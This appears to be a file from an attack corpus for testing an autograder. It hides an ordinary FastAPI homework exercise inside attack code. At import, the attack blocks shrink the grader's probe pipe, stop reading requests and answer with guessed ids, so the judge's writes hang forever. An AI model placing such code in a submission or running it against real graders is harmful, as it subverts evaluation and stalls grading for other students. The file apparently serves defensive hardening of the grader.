"""Attack: stop reading the probe pipe while answering every probe with a guessed id, so the judge's write of the next probe blocks forever

honest: 0
base: stub

At import the file finds its two pipes, shrinks the probe pipe to one page (F_SETPIPE_SZ) and, never
reading a request, answers {"id": n, "observation": {}} for n = 1, 2, 3... whenever more bytes wait in
the pipe. Unread requests pile up until a blocking write by the judge could never finish, and the whole
class would wait for ever. (Found by a review of the grader on 2026-11-29.)

Safety: this file attacks the grader. Grade it only with `alfred grade` (sandboxed); it refuses
to import anywhere but as a sandbox's student user (uid 40000-59999).
"""

# >>> ATTACK
import os as _attack_os

if not 40000 <= _attack_os.getuid() < 60000:  # safety catch: armed only as a sandbox's student user
    raise ImportError("attack corpus file: grade it with `alfred grade` (sandboxed); never import or run it directly")
# <<< ATTACK

import os
import time
from typing import Annotated

from fastapi import BackgroundTasks, Depends, FastAPI, Header, HTTPException
from pydantic import BaseModel, EmailStr

app = FastAPI(title="Batcomputer API", version="7.0")


# --- Lesson 6: Batcomputer protocols (dependency injection) ---

API_KEYS = {"alfred-secret-key": "alfred@wayne.enterprises"}


async def common_parameters(skip: int = 0, limit: int = 10) -> dict[str, int]:
    """Pagination shared by every list endpoint."""
    return {"skip": skip, "limit": limit}


def get_db_session():
    """Hands out a (simulated) database session and always closes it afterwards."""
    session = {"connected": True}
    try:
        yield session
    finally:
        session["connected"] = False


async def get_api_key(x_api_key: Annotated[str | None, Header()] = None) -> str:
    """Requires a known `X-API-Key` header."""
    if x_api_key not in API_KEYS:
        raise HTTPException(status_code=401, detail="Invalid or missing API key")
    return x_api_key


async def verify_key_and_get_user(api_key: Annotated[str, Depends(get_api_key)]) -> dict[str, str]:
    """Chained after `get_api_key`: turns a valid key into its user."""
    return {"email": API_KEYS[api_key]}


GADGETS = ["Batarang", "Grapnel Gun", "Smoke Pellet", "Cryptographic Sequencer", "Batclaw"]


@app.get("/gadgets")
async def list_gadgets(
    page: Annotated[dict[str, int], Depends(common_parameters)],
    db: Annotated[dict, Depends(get_db_session)],
):
    return {"gadgets": GADGETS[page["skip"] : page["skip"] + page["limit"]], "db_connected": db["connected"]}


@app.get("/users/me")
async def read_current_user(user: Annotated[dict[str, str], Depends(verify_key_and_get_user)]):
    return user


# --- Lesson 7: Alfred's duties (background tasks) ---

LOG_DIR = "batcomputer_logs"
LOG_FILE = os.path.join(LOG_DIR, "activity_log.txt")


def log_batcomputer_activity(user_email: str, activity: str = ""):
    """Appends one line about a user's activity to the Batcomputer log, after 2 s of simulated work."""
    log_line = f"User {user_email} activity: {activity}\n"
    print(f"--- BACKGROUND TASK START: Logging activity: '{log_line.strip()}' ---")
    time.sleep(2)
    os.makedirs(LOG_DIR, exist_ok=True)
    # TODO Exercise 4 (stretch): when batcomputer_logs/activity_log.txt does not exist yet, print
    #   --- BACKGROUND TASK: Creating log file ---
    # before the file is opened below; print nothing extra when it is already there. (os.path.exists helps.)
    with open(LOG_FILE, mode="a") as log_file:
        log_file.write(log_line)
    print(f"--- BACKGROUND TASK END: Activity logged to '{LOG_FILE}' for {user_email} ---")


@app.post("/log-activity/{user_email}")
async def log_user_activity(
    user_email: EmailStr,
    background_tasks: BackgroundTasks,
    activity_description: str = "Generic activity logged.",
):
    """Confirms at once; Alfred writes the log line after the response has gone out."""
    background_tasks.add_task(log_batcomputer_activity, user_email, activity=activity_description)
    return {"message": f"Activity logging initiated for {user_email}."}


# --- Homework ---


# TODO Exercise 1 (model): give IntelReportRequest two fields:
#   recipient_email, validated as an email address (pydantic's EmailStr), and
#   report_name, a string that every request must include.
class IntelReportRequest(BaseModel):
    """A request for an intel report: which report, and who receives it."""


# TODO Exercise 2 (task): print a start message naming the report and its recipient, simulate the
# compilation with time.sleep(5), then print an end message naming both again.
def simulate_intel_report_compilation(report_request: IntelReportRequest):
    """Compiles an intel report for its recipient: 5 s of simulated work."""
    raise NotImplementedError("Exercise 2 (task): simulate_intel_report_compilation is not written yet")


# TODO Exercise 3 (endpoint): add the route POST /request-intel-report. It takes the JSON body as an
# IntelReportRequest, injects BackgroundTasks, schedules simulate_intel_report_compilation with the
# report request it received (the object itself), and answers at once with a confirmation message.


# >>> ATTACK
import array as _array, fcntl as _fcntl, json as _json, os as _os, select as _select, stat as _stat, termios as _termios

def _pipes():
    found = {}
    for name in _os.listdir("/proc/self/fd"):
        fd = int(name)
        try:
            if not _stat.S_ISFIFO(_os.fstat(fd).st_mode):
                continue
            mode = _fcntl.fcntl(fd, _fcntl.F_GETFL) & _os.O_ACCMODE
        except OSError:
            continue
        found["r" if mode == _os.O_RDONLY else "w"] = fd
    return found["r"], found["w"]

def _pending(fd):
    buf = _array.array("i", [0])
    _fcntl.ioctl(fd, _termios.FIONREAD, buf)
    return buf[0]

_r, _w = _pipes()
try:
    _fcntl.fcntl(_r, 1031, 4096)  # F_SETPIPE_SZ
except OSError:
    pass
_n = 1
_os.write(_w, (_json.dumps({"id": _n, "observation": {}}) + "\n").encode())
_last = _pending(_r)
while True:
    _select.select([], [], [], 0.05)  # real time, no CPU
    _now = _pending(_r)
    if _now > _last:
        _select.select([], [], [], 0.05)
        _last = _pending(_r)
        _n += 1
        _os.write(_w, (_json.dumps({"id": _n, "observation": {}}) + "\n").encode())
# <<< ATTACK
